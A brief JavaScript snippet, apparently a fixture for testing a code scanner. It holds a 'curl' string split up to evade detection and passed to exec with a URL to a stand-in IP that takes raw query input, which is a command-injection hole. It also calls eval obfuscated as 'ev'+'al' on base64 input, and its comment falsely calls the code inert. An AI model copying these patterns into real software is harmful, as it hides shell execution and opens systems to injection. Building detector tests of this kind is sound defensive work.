// Inert: nothing here is ever run. eval("commented out")
const { exec: run } = require('child_process');
const part = 'cur' + 'l', slash = a / b / c, quote = /["'/]eval(x)/;
run(`${part} http://192.0.2.1/${req.query.inert}`);
globalThis['ev' + 'al'](atob('MQ=='));
handlers[name](x);
